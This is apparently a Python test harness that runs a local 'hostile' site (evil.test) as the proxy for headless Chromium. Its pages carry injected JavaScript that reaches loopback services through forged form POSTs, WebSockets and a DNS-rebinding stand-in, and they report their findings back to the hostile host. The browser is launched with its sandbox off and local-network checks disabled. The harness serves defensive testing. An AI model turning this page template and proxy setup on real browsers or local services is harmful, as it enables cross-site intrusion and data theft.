"""A hostile web site, and headless Chromium that visits it.

The browser reaches every name but loopback's through the site, which is its proxy: so it is every site of the web,
plays the resolver for a name that was rebound to 127.0.0.1, and nothing leaves the machine.
"""

import http.client
import json
import os
import queue
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

HOME = "http://evil.test/"
REBOUND = "rebound.test"

_PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const submit = (url, fields, enctype = "") => new Promise(resolve => {
  const frame = document.createElement("iframe");
  frame.name = "answer";
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"), {action: url, method: "POST", target: "answer", enctype});
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(form);
  frame.onload = () => resolve("");
  form.submit();
});
const opened = url => new Promise(resolve => {
  const socket = new WebSocket(url);
  socket.onopen = () => { socket.send("{}"); };
  socket.onmessage = message => resolve(message.data);
  socket.onclose = () => resolve("");
});
const read = async answer => answer.ok ? await answer.text() : "";
const attack = async given => { ATTACK };
attack(GIVEN).catch(() => "")
  .then(told => fetch("/told", {method: "POST", body: JSON.stringify(told)}))
  .then(() => fetch("/next")).then(next => next.text()).then(next => { location = next; });
</script>"""


class _Site(BaseHTTPRequestHandler):
    server: "HostileSite"

    def do_GET(self) -> None:
        asked = urlsplit(self.path)
        if asked.path == "/page":
            self._answer(200, self.server.page.encode())
        elif asked.path == "/next":
            self._answer(200, self.server.next.get().encode())
        elif asked.hostname == REBOUND:
            self._pass_on(asked.port or 80)
        else:
            self._answer(404, b"")

    def do_POST(self) -> None:
        if urlsplit(self.path).path == "/told":
            self.server.told.put(json.loads(self._body()))
            self._answer(204, b"")
        else:
            self.do_GET()

    def _pass_on(self, port: int) -> None:
        """What a browser would send to 127.0.0.1 for a name that leads there."""
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        try:
            asked = urlsplit(self.path)
            connection.request(self.command, asked.path or "/", self._body(), dict(self.headers.items()))
            answer = connection.getresponse()
            self._answer(answer.status, answer.read())
        finally:
            connection.close()

    def _body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Cache-Control", "no-store")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


class HostileSite(ThreadingHTTPServer):
    """Serves one page after the other, each of which tells it something and then goes on to the next."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Site)
        self.page = ""
        self.next = queue.Queue[str]()  # addresses
        self.told = queue.Queue[Any]()

    def show(self, attack: str, given: Any) -> None:
        self.page = _PAGE.replace("ATTACK", attack).replace("GIVEN", json.dumps(given))


class Browser:
    """Real Chromium, with the site open."""

    def __init__(self, site: HostileSite) -> None:
        self._site = site

    def visit(self, attack: str, given: Any, at: str = HOME) -> Any:
        """What a page at the address tells its site once it has run the JavaScript, the body of a function."""
        self._site.show(attack, given)
        self._site.next.put(f"{at}page")
        return self._site.told.get(timeout=30)


@contextmanager
def browser(program: str, profile: Path) -> Iterator[Browser]:
    with HostileSite() as site, _chromium(program, profile, site):
        threading.Thread(target=site.serve_forever, daemon=True).start()
        try:
            assert site.told.get(timeout=60) == "open"
            yield Browser(site)
        finally:
            site.shutdown()


@contextmanager
def _chromium(program: str, profile: Path, site: HostileSite) -> Iterator[None]:
    site.show("return 'open';", None)
    process = subprocess.Popen(
        [
            program,
            "--headless=new",
            "--no-sandbox",  # root, as whom CI runs, can't have it
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            # Other browsers let a page reach for loopback unasked, and so did Chromium for most of its life.
            "--disable-features=LocalNetworkAccessChecks",
            f"--proxy-server=http://127.0.0.1:{site.server_port}",
            f"--user-data-dir={profile}",
            f"{HOME}page",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(10)
